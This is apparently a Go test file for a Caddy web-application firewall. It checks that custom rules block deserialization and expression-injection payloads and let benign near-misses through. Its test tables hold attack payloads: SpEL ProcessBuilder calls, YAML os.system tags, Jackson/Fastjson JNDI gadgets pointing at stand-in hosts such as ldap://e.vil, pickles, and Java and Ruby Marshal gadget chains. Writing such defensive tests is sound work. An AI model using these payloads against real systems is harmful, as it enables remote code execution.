package waf

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/caddyserver/caddy/v2"
	"github.com/caddyserver/caddy/v2/caddyconfig"
)

// spelAttacks are attack 16's B8: SpEL's new of java.lang's
// ProcessBuilder without its package.
var spelAttacks = []string{
	"new ProcessBuilder('id').start()", "new ProcessBuilder('id').inheritIO().start().waitFor()",
	"new ProcessBuilder({'id'}).start()",
	"new  ProcessBuilder ( 'sh', '-c', 'id' ) . start ( )", "new ProcessBuilder('id').redirectErrorStream(true).start()",
}

// yamlAttacks are attack 16's B9: YAML tags that build objects.
var yamlAttacks = []string{
	"!!python/object/apply:os.system [\"id\"]", "!!python/object/new:os.system [id]", "!!python/name:os.system",
	"!!python/module:os", "x: !!python/object/apply:subprocess.check_output [[id]]", "!!python/object:__main__.Exploit {}",
	"!<tag:yaml.org,2002:python/object/apply:os.system> [id]", "--- !ruby/object:Gem::Installer\ni: x",
	"!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection", "x: !!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://e.vil/x",
	"!!org.springframework.context.support.FileSystemXmlApplicationContext [\"http://e.vil/x.xml\"]",
	// attack 18's: a %TAG directive, an anchor before the tag, a complex
	// key, a list item's anchor, a verbatim tag
	"%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system [\"id\"]", "x: &a !!python/object/apply:os.system [\"id\"]",
	"? !!python/object/apply:os.system [\"id\"]\n: 1", "- &a !ruby/object:Gem::Installer\n  i: x", "x: !<!ruby/object:Gem::Installer>\n  i: x",
}

// gadgetJSONAttacks are attack 16's B12: Jackson's and Fastjson's
// polymorphic types that end in a JNDI lookup.
var gadgetJSONAttacks = []string{
	`["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"rmi://e.vil:1099/Exploit","loginTimeout":0}]`,
	`["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://e.vil:1389/Exploit","autoCommit":true}]`,
	`{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://e.vil:1099/x","autoCommit":true}`,
	`{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://e.vil:1099/x","autoCommit":true}`,
	`["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://e.vil/x"}]`,
	`["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://e.vil/x"}]`,
	`["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://e.vil/x"}]`,
	`["org.apache.hadoop.shaded.com.zaxxer.hikari.HikariConfig",{"healthCheckRegistry":"ldap://e.vil/x"}]`,
	`["org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",{"properties":{"data_source":"ldap://e.vil/x"}}]`,
	`["org.springframework.beans.factory.config.PropertyPathFactoryBean",{"targetBeanName":"ldap://e.vil/x","propertyPath":"x"}]`,
	`{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassName":"$$BCEL$$x"}`,
	`{"x":["org.apache.shiro.jndi.JndiObjectFactory",{"resourceName":"ldap://e.vil/x"}]}`,
	`{"@type":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://e.vil/x"}`,
	// attack 18's: HikariCP in Jackson's wrapper-object form, as @c,
	// under a custom type property, nested, in capitals (210141)
	`{"com.zaxxer.hikari.HikariConfig":{"metricRegistry":"ldap://e.vil/x"}}`,
	`{"@c":".HikariConfig","healthCheckRegistry":"rmi://e.vil:1099/x"}`,
	`{"kind":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://e.vil/x"}`,
	`{"ds":{"com.zaxxer.hikari.HikariDataSource":{"healthCheckRegistry":"LDAP://e.vil/x"}}}`,
	`{"t":"x.y.JndiRefForwardingDataSource","jndiName":"iiop://e.vil/x"}`,
	// attack 20's: Jackson's SNAKE_CASE naming strategy
	`{"com.zaxxer.hikari.HikariConfig":{"metric_registry":"rmi://evil:1099/x"}}`, `{"x":{"health_check_registry":"ldap://evil:1389/x"}}`,
	// attack 21's: LOWER_DOT_CASE, Xalan's JNDIConnectionPool
	`{"metric.registry":"rmi://evil.example/x"}`, `{"com.zaxxer.hikari.HikariConfig":{"metric.registry":"ldap://evil.example/x"}}`,
	`{"x":{"type":"org.apache.xalan.lib.sql.JNDIConnectionPool","jndiPath":"ldap://evil.example/x"}}`,
	// attack 21's open ones: Fastjson's names with _ or - anywhere, the
	// other gadget classes' JNDI properties without their class
	`{"@type":"com.zaxxer.hikari.HikariConfig","metr_icRegistry":"ldap://evil.example/x"}`, `{"x":{"health-Check_Regis-try":"rmi://evil.example/x"}}`,
	`{"x":{"registryName":"ldap://evil.example/x"}}`, `{"x":{"transactionManagerName":"rmi://evil.example/x"}}`,
	`{"x":{"userTransactionName":"ldap://evil.example/x"}}`, `{"x":{"asText":"ldap://evil.example/x"}}`,
	// attack 23's: more of the gadget classes' JNDI properties without
	// their class
	`{"x":{"topic-factory":"ldap://evil.example/x"}}`, `{"x":{"UserTransaction":"ldap://evil.example/x"}}`,
	`{"x":{"shareableResources":["rmi://evil.example/x"]}}`, `{"x":{"dataSourceJNDI":"ldap://evil.example/x"}}`,
	// attack 24's: P6Spy, log4j's JMS appenders, OpenJPA
	`["com.p6spy.engine.spy.P6DataSource",{"realDataSource":"ldap://evil.example:1389/x"}]`, `{"realDataSource":"rmi://evil.example/x"}`,
	`{"topicBindingName":"ldap://evil.example/x"}`, `{"appender":{"factoryBindingName":"ldap://evil.example/x","destinationBindingName":"x"}}`,
	`{"connectionFactoryName":"ldap://evil.example/x"}`, `{"connectionFactory2Name":"rmi://evil.example/x"}`,
}

// javaSerialized is the start of a serialized commons-collections chain
// (ysoserial's CommonsCollections1: an AnnotationInvocationHandler).
const javaSerialized = "\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;L\x00\x04typet\x00\x11Ljava/lang/Class;xps}\x00\x00\x00\x01\x00\rjava.util.Map"

// serializedAttacks are attack 16's B10 and B11: pickles of an object
// whose __reduce__ is os.system('id') (protocols 0 to 5), a Java stream
// in base64 and hex, .NET's BinaryFormatter.
var serializedAttacks = []string{
	"Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==", "Y3Bvc2l4CnN5c3RlbQpxAChYAgAAAGlkcQF0cQJScQMu",
	"gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==", "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
	"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "gAWVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
	base64.StdEncoding.EncodeToString([]byte("cos\nsystem\n(S'id'\ntR.")), "cos\nsystem\n(S'id'\ntR.",
	base64.StdEncoding.EncodeToString([]byte("csubprocess\ncheck_output\n(S'id'\ntR.")),
	base64.StdEncoding.EncodeToString([]byte(javaSerialized)), base64.URLEncoding.EncodeToString([]byte(javaSerialized)),
	"aced0005737200326a6176612e7574696c2e5072696f72697479517565756594da30b4fb3f82b103000249",
	"AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMA==", "AAEAAAD_____AQAAAAAAAAAMAgAAAElTeXN0ZW0",
	// attack 18's: raw protocol 0 that starts with MARK and INST, its
	// base64, protocol 2 with MARK, protocol 4 without FRAME, a leading
	// character Python's b64decode drops
	"(S'echo PWN'\nios\nsystem\n.", "KFMnZWNobyBQV04nCmlvcwpzeXN0ZW0KLg==", "gAIoWAgAAABlY2hvIFBXTmlvcwpzeXN0ZW0KLg==",
	"gASMBXBvc2l4jAZzeXN0ZW2TjAhlY2hvIFBXToVSLg==", "!gAJjcG9zaXgKc3lzdGVtCnEAWAgAAABlY2hvIFBXToVSLg==",
}

// gadgetBenign are near-misses of rules 210136 to 210138.
var gadgetBenign = []string{
	"use new ProcessBuilder to run it", "ProcessBuilder pb = new ProcessBuilder(cmd); pb.start();", "new Process(s).start()",
	"x: !!str 123\ny: !!binary aGVsbG8=\nz: !!map {}", "python/object is a YAML tag", "Wow!!great", "ruby/object",
	"CVE-2017-7525 is about com.sun.rowset.JdbcRowSetImpl in Jackson", "the marker rO0AB starts Java serialized data",
	"gAAAAABl4b2cX3k9Q0VvWm1uT3JtY2VfdG9rZW4taGVyZQ==", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
	"costume\nsystem", "Cosmos", "com.example.orders.OrderCreated", "Lcom.example.Foo;", "acedemy", "AAEAAAD",
	// attack 17's false positives: prose that names a YAML tag
	"Rails 7.1 complains about !ruby/object:ActiveSupport::HashWithIndifferentAccess in my fixtures, how do I fix it?",
	"SnakeYAML output has !!com.example.config.AppConfig at the top, can I drop the tag?",
	// attack 18's closing kept these passing: platforms in a list, a
	// mention of a tag after an anchor's name in prose
	"ios\nandroid\nweb", "(Very nice)\nios\nandroid\n", "Is &a !!python/object/apply: dangerous?",
}

// TestGadgetsBeyondTheCRS: rules 210136 to 210138 refuse attack 16's B8
// to B12 in the places they arrived in (query, header, form, a multipart
// YAML file, JSON, a cookie), which the CRS alone passes.
func TestGadgetsBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	var misses, benign []probe
	for _, s := range spelAttacks {
		misses = append(misses,
			probe{name: "query " + s, method: "GET", path: "/api/fn?x=" + url.QueryEscape(s)},
			probe{name: "X-Expression " + s, method: "GET", path: "/functionRouter", header: http.Header{"X-Expression": {s}}})
	}
	for i, s := range yamlAttacks {
		yml, ymlType := multipartFile("c", `filename="c.yml"`, "application/x-yaml", "a: 1\nx: "+s+"\n")
		misses = append(misses,
			probe{name: "query " + s, method: "GET", path: "/api/load?d=" + url.QueryEscape(s)},
			probe{name: "form " + s, method: "POST", path: "/api/load", contentType: "application/x-www-form-urlencoded", body: "d=" + url.QueryEscape(s)},
			probe{name: "multipart c.yml " + string(rune('a'+i)), method: "POST", path: "/api/load", contentType: ymlType, body: yml})
	}
	for _, s := range gadgetJSONAttacks {
		misses = append(misses, probe{name: "JSON " + s, method: "POST", path: "/api/items", contentType: "application/json", body: s})
	}
	for _, s := range serializedAttacks {
		misses = append(misses, probe{name: "query " + s, method: "GET", path: "/api/load?d=" + url.QueryEscape(s)})
		if !strings.Contains(s, "\n") { // the CRS refuses a cookie's line break
			misses = append(misses, probe{name: "cookie " + s, method: "GET", path: "/", header: http.Header{"Cookie": {"rememberMe=" + url.QueryEscape(s)}}})
		}
	}
	for _, s := range gadgetBenign {
		benign = append(benign,
			probe{name: "query " + s, method: "GET", path: "/api/notes?q=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/api/notes", contentType: "application/json", body: jsonString("v", s)})
	}
	benign = append(benign,
		probe{name: "JSON-LD Person", method: "POST", path: "/api/items", contentType: "application/json", body: `{"@context":"https://schema.org","@type":"Person","name":"Ann"}`},
		probe{name: "JSON type ids", method: "POST", path: "/api/items", contentType: "application/json", body: `["com.example.orders.OrderCreated",{"id":1}]`},
		probe{name: "a Fernet token in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"session=" + gadgetBenign[9]}}},
		// attack 17's false positives: pool classes as configuration values
		probe{name: "JSON dataSourceClassName", method: "POST", path: "/api/config", contentType: "application/json", body: `{"dataSourceClassName":"com.zaxxer.hikari.HikariDataSource"}`},
		probe{name: "form spring.datasource.type", method: "POST", path: "/api/config", contentType: "application/x-www-form-urlencoded", body: "spring.datasource.type=com.zaxxer.hikari.HikariDataSource"},
		// near 210141: JNDI names in the application's own context, an
		// LDAP server's URL under another name, a registry's name
		probe{name: "JSON a JNDI name in java:comp", method: "POST", path: "/api/config", contentType: "application/json", body: `{"jndiName":"java:comp/env/jdbc/orders","dataSourceName":"jdbc/orders"}`},
		probe{name: "JSON an LDAP server's URL", method: "POST", path: "/api/config", contentType: "application/json", body: `{"ldapUrl":"ldap://ldap.corp.example:389","lookupBase":"dc=corp,dc=example"}`},
		probe{name: "JSON a data source's description naming dns: (attack 20)", method: "POST", path: "/admin/ds", contentType: "application/json", body: `{"dataSourceName":"reporting (dns: reports.db.internal)"}`},
		probe{name: "JSON a metrics registry", method: "POST", path: "/api/config", contentType: "application/json", body: `{"metricRegistry":"prometheus","healthCheckRegistry":"default"}`},
		probe{name: "JSON an LDAP directory's settings in snake case", method: "POST", path: "/api/config", contentType: "application/json", body: `{"ldap_url":"ldap://ldap.corp.example:389","bind_dn":"cn=app,dc=corp","resource_type":"directory","registry":{"name":"ldap-main"}}`},
		probe{name: "JSON a resource named by a java: name", method: "POST", path: "/api/config", contentType: "application/json", body: `{"resourceName":"java:comp/env/jdbc/orders","transactionManagerName":"java:appserver/TransactionManager"}`},
		probe{name: "JSON a monitoring check of an LDAP server (attack 23)", method: "POST", path: "/api/checks", contentType: "application/json", body: `{"resourceName":"ldap://dc1.corp.example.com:389","status":"up"}`},
		probe{name: "JSON driverClassName c3p0", method: "POST", path: "/api/config", contentType: "application/json", body: `{"driverClassName":"com.mchange.v2.c3p0.ComboPooledDataSource"}`})
	runBeyondTheCRS(t, nil, misses, benign)
}

// TestSpELRoutingExpressionHeader: Caddy drops a header whose name holds
// a dot unless the server's expected_dot_headers names it (Caddy 2.11,
// GHSA-49wc-4hcv-v58q); with Spring Cloud Function's
// spring.cloud.function.routing-expression named there (CVE-2022-22963's
// place), the header reaches the backend past the CRS alone, and rule
// 210136 refuses it (the waf hands the header's value to the rules as
// ARGS:header:spring.cloud.function.routing-expression).
func TestSpELRoutingExpressionHeader(t *testing.T) {
	tableOnly(t)
	const name = "spring.cloud.function.routing-expression"
	for _, c := range []struct {
		block string
		want  int
	}{{"waf {\n\t\tcrs_only\n\t}", http.StatusOK}, {"waf", http.StatusForbidden}} {
		backend := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprint(w, r.Header.Get(name))
		}))
		port := freePort(t)
		cfg := fmt.Sprintf("{\n\tadmin off\n\tpersist_config off\n\tlog {\n\t\toutput discard\n\t}\n\tservers {\n\t\texpected_dot_headers %s\n\t}\n}\nhttp://127.0.0.1:%d {\n\t%s\n\treverse_proxy %s\n}\n",
			name, port, c.block, strings.TrimPrefix(backend.URL, "http://"))
		raw, _, err := caddyconfig.GetAdapter("caddyfile").Adapt([]byte(cfg), nil)
		if err != nil {
			t.Fatalf("adapting: %v\n%s", err, cfg)
		}
		if err := caddy.Load(raw, true); err != nil {
			t.Fatalf("loading: %v", err)
		}
		base := fmt.Sprintf("http://127.0.0.1:%d", port)
		for _, s := range append(append([]string{}, spelAttacks...), "new ProcessBuilder('touch','/tmp/pwn').start()") {
			code, body := send(t, base, probe{method: "GET", path: "/functionRouter", header: http.Header{name: {s}}})
			if code != c.want || code == http.StatusOK && body != s {
				t.Errorf("%s: %q: %d %q, want %d", c.block, s, code, body, c.want)
			}
		}
		_ = caddy.Stop()
		backend.Close()
	}
}

// TestSerializedMarkersLeaveTokensAlone: rule 210138's expression matches
// none of randomSamples random base64, base64url and hex tokens (session
// ids, API keys, hashes).
func TestSerializedMarkersLeaveTokensAlone(t *testing.T) {
	tableOnly(t)
	re := regexp.MustCompile(serializedMarkerRule)
	rng := rand.New(rand.NewPCG(16, 11))
	matched := 0
	for _, alphabet := range []string{
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_",
		"0123456789abcdef",
	} {
		for range randomSamples {
			b := make([]byte, 16+rng.IntN(49))
			for i := range b {
				b[i] = alphabet[rng.IntN(len(alphabet))]
			}
			if re.Match(b) {
				matched++
				t.Logf("%q matches", b)
			}
		}
	}
	if matched > 0 {
		t.Errorf("%d of %d random tokens match a serialized object's marker", matched, 3*randomSamples)
	}
}

// rubyMarshalAttacks are attack 19's Ruby Marshal gadgets in base64
// (rule 210142): the Rails universal gadget (DeprecatedInstanceVariableProxy
// around an ERB whose @src is %x(id)), as a JSON field and as a cookie,
// signed as a Rails cookie is, and RubyGems chains (Gem::Installer, and
// Net::WriteAdapter with Kernel's symbol, URL-safe without padding).
var rubyMarshalAttacks = []string{
	"BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94eQg6DkBpbnN0YW5jZW86CEVSQgY6CUBzcmNJIgsleChpZCkGOgZFVDoMQG1ldGhvZDoLcmVzdWx0OglAdmFySSIMQHJlc3VsdAY6BkVU",
	"BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94eQg6DkBpbnN0YW5jZW86CEVSQgY6CUBzcmNJIglgaWRgBjoGRVQ6DEBtZXRob2Q6C3Jlc3VsdDoJQHZhckkiDEByZXN1bHQGOgZFVA==",
	"BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94eQg6DkBpbnN0YW5jZW86CEVSQgY6CUBzcmNJIglgaWRgBjoGRVQ6DEBtZXRob2Q6C3Jlc3VsdDoJQHZhckkiDEByZXN1bHQGOgZFVA==--0123456789abcdef0123456789abcdef01234567",
	"BAhbB286E0dlbTo6SW5zdGFsbGVyBjoIQGlJaQZvOhVHZW06OlNwZWNGZXRjaGVyAA==",
	"BAhvOhVOZXQ6OldyaXRlQWRhcHRlcgc6DEBzb2NrZXRtC0tlcm5lbDoPQG1ldGhvZF9pZDoLc3lzdGVt",
	// attack 21's: Marshal 4.7 (read with a warning in verbose mode
	// only) and a leading character decode64 skips
	"BAdvOhNHZW06Okluc3RhbGxlcgY6B0BpIgZ4", "-BAhvOhNHZW06Okluc3RhbGxlcgY6B0BpIgZ4",
}

// rubyMarshalBenign are Rails signed cookies of Marshal data that names
// no gadget: a session hash, a string, and base64 that starts BAh but is
// no Marshal data.
var rubyMarshalBenign = []string{
	"BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiJTlmMmM0ZTZhOGIwZDFmM2E1YzdlOWIxZDNmNWE3YzllBjoGRVRJIhBfY3NyZl90b2tlbgY6BkVUSSIhWm05dlltRnlZbUY2Y1hWNGNYVjFlSGg1ZW5wNQY6BkVU--3f1c2a9b8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a",
	"BAhJIgphZG1pbgY6BkVU--5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f",
	"BAhJIgphZG1pbgY6BkVU",
	"BAhaaaaKernelGem::Installer",
}

func TestRubyMarshalGadget(t *testing.T) {
	for _, s := range rubyMarshalAttacks {
		if !rubyMarshalGadget(s) {
			t.Errorf("misses %q", s)
		}
	}
	for _, s := range rubyMarshalBenign {
		if rubyMarshalGadget(s) {
			t.Errorf("matches the benign %q", s)
		}
	}
}

// TestRubyMarshalBeyondTheCRS: rule 210142 refuses attack 19's Marshal
// gadgets in a JSON field, a cookie and the query, which the CRS alone
// passes; Rails's signed cookies pass.
func TestRubyMarshalBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	var misses, benign []probe
	for i, s := range rubyMarshalAttacks {
		n := fmt.Sprintf("marshal %d", i)
		misses = append(misses,
			probe{name: "JSON " + n, method: "POST", path: "/api", contentType: "application/json", body: jsonString("state", s)},
			probe{name: "cookie " + n, method: "GET", path: "/", header: http.Header{"Cookie": {"_app_session=" + s}}},
			probe{name: "query " + n, method: "GET", path: "/x?state=" + url.QueryEscape(s)})
	}
	for i, s := range rubyMarshalBenign {
		n := fmt.Sprintf("marshal %d", i)
		benign = append(benign,
			probe{name: "JSON " + n, method: "POST", path: "/api", contentType: "application/json", body: jsonString("state", s)},
			probe{name: "cookie " + n, method: "GET", path: "/", header: http.Header{"Cookie": {"_app_session=" + s}}},
			probe{name: "query " + n, method: "GET", path: "/x?state=" + url.QueryEscape(s)})
	}
	runBeyondTheCRS(t, nil, misses, benign)
}
